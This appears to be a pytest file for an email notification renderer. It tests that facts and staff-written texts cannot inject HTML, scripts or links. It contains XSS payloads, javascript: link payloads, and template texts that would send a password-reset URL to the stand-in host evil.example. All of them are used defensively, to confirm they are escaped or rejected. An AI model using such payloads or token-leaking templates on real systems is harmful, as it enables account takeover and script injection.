"""What texts are marked up with, and that nothing in a fact or a text becomes markup of the page."""

import re

import pytest

from billhead.actions.notifications._letter import Look
from billhead.actions.notifications._own_texts import check_text
from billhead.actions.notifications._render import render
from billhead.actions.notifications._samples import sample_facts
from billhead.actions.notifications._standard import WrittenText
from billhead.domain.errors import InvalidInput

XSS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "[click](https://evil.example)",
    "**bold**",
    "{{account_url}}",
    "' onmouseover='alert(1)",
]


def told(body, subject="Hello", **facts):
    return render("message", {**sample_facts("message"), **facts}, WrittenText(subject, body))


def test_paragraphs_points_strong_words_and_links():
    shown = told("One\ntwo **three**\n\n- four\n- five\n\nSee [the shop]({{shop_url}}).\n\n[Sign in]({{account_url}})")
    assert "<p>One<br>two <strong>three</strong></p>" in shown.html
    assert "<ul><li>four</li><li>five</li></ul>" in shown.html
    assert '<a href="https://shop.example/">the shop</a>.' in shown.html
    assert 'href="https://shop.example/sign-in" style="display:inline-block' in shown.html
    expected = "One\ntwo three\n\n- four\n- five\n\nSee the shop (https://shop.example/).\n\nSign in: https://shop.example/sign-in"
    assert shown.text.startswith(expected)


@pytest.mark.parametrize("typed", XSS)
def test_a_fact_stays_text(typed):
    shown = told(
        "Dear {{name}},\n\n{{words}}\n\n**{{name}}** [{{name}}]({{shop_url}})", "{{name}}", name=typed, words=typed
    )
    for bad in ("<script", "<img", 'evil.example"', "<strong>bold", "onmouseover='"):
        assert bad not in shown.html
    assert shown.subject == typed
    assert typed in shown.text


@pytest.mark.parametrize("typed", XSS[:2] + XSS[-1:])
def test_what_staff_write_stays_text(typed):
    shown = told(f"Hello\n\n{typed}\n\n[{typed.replace('[', '').replace(']', '')}]({{{{shop_url}}}})")
    for bad in ("<script", "<img", "onmouseover='"):
        assert bad not in shown.html


def test_the_look_is_the_sellers():
    tokens = {"accent": "#0a58ca", "on-accent": "#fefefe", "ground": "#eef3fb", "radius-small": "0.5rem"}
    look = Look(tokens, has_logo=True, foot=("Call us: 1234", "NorthCable Oy, Street 1"))
    shown = render("reminder", sample_facts("reminder", look=look))
    assert "background:#0a58ca;color:#fefefe" in shown.html
    assert 'src="cid:logo"' in shown.html
    assert "Call us: 1234" in shown.html
    assert "NorthCable\nCall us: 1234\nNorthCable Oy, Street 1\nYour account:" in shown.text


PASSWORD = "https://shop.example/set-password/…"
STOLEN = [
    "[Set it now]{{^seller}}{{/seller}}(https://evil.example/?{{password_url}})",
    "[Set it now]{{^seller}}no{{/seller}}(https://evil.example/?{{password_url}})",
    "[Set it now]({{^seller}}{{/seller}}https://evil.example/?{{password_url}})",
    "[Set it now](https://evil.example/?{{ password_url }})",
    "[a {{^seller}}b](https://good.example) {{/seller}}c](https://evil.example/?{{password_url}})",
    "Open https://evil.example/?{{password_url}} now",
    "Open https://evil.example/?({{password_url}} now",
    "Open https://evil.example/?**{{password_url}}**",
    "Open https://evil.example/?]({{password_url}})",
    "Open {{seller}}{{password_url}}",
    "- https://evil.example/?{{password_url}}",
]
FOUND_WHEN_FILLED = [
    "Open https://evil.example/?{{^seller}} {{/seller}}{{password_url}} now",
    "**a [b** https://evil.example/?c]({{password_url}})",
]
SCRIPTS = [
    "[Set it now](javascript:alert`1`)",
    "[Set it now]{{^seller}}{{/seller}}(javascript:alert`1`)",
    "[Set it now](java{{^seller}}{{/seller}}script:alert`1`)",
]
SCRIPTS_WHEN_FILLED = [
    "[a {{^seller}}b](https://good.example) {{/seller}}c](javascript:alert`1`)",
    "[Set it now](java{{^seller}} {{/seller}}script:alert`1`)",
]


@pytest.mark.parametrize("body", STOLEN + FOUND_WHEN_FILLED)
def test_what_opens_an_account_is_never_the_end_of_anothers_address(body):
    shown = render(
        "password_link", sample_facts("password_link", seller="https://evil.example/"), WrittenText("Hello", body)
    )
    assert PASSWORD in shown.text
    for around in re.findall(rf"\S*{re.escape(PASSWORD)}", shown.text):
        assert "evil" not in around
    for address in re.findall(r'href="([^"]*)"', shown.html):
        assert "evil" not in address or PASSWORD not in address
    read = re.sub(r"<[^>]*>", "", shown.html)
    for around in re.findall(rf"\S*{re.escape(PASSWORD)}", read):
        assert "evil" not in around


@pytest.mark.parametrize("body", SCRIPTS + SCRIPTS_WHEN_FILLED)
def test_no_link_leads_to_a_script(body):
    shown = render("password_link", sample_facts("password_link"), WrittenText("Hello", body))
    assert "script:" in shown.text
    assert 'href="java' not in shown.html


@pytest.mark.parametrize("body", [*STOLEN, *(f"{one} {{{{password_url}}}}" for one in SCRIPTS)])
def test_such_a_text_is_not_saved(body):
    with pytest.raises(InvalidInput):
        check_text("password_link", WrittenText("Hello", body))


@pytest.mark.parametrize("field", ["subject", "short"])
def test_nor_such_a_sentence(field):
    fields = {
        "subject": "Hello",
        "body": "{{password_url}}",
        "short": "",
        field: "https://evil.example/?{{password_url}}",
    }
    with pytest.raises(InvalidInput) as refused:
        check_text("password_link", WrittenText(**fields))
    assert refused.value.field == field
    shown = render("password_link", sample_facts("password_link"), WrittenText(**fields))
    assert f"https://evil.example/? {PASSWORD}" in getattr(shown, field)


@pytest.mark.parametrize(
    "body",
    [
        "Open {{password_url}}.",
        "Open it ({{password_url}}), or **{{password_url}}**.",
        '"{{password_url}}"',
        "{{#seller}}\n[Set it]({{password_url}})\n{{/seller}}",
        "{{#seller}}[Set it]({{ password_url }}){{/seller}} ({{#name}}{{name}}{{/name}})",
        "- [Set it]({{password_url}}) at [ours](https://good.example/a?b=c), [write](mailto:us@good.example)",
    ],
)
def test_honest_texts_stay_as_they_are(body):
    text = WrittenText("Hello", body, "Set it: {{password_url}}")
    check_text("password_link", text)
    shown = render("password_link", sample_facts("password_link"), text)
    assert f"( {PASSWORD}" not in shown.text
    assert "](" not in shown.text
    assert shown.short == f"Set it: {PASSWORD}"
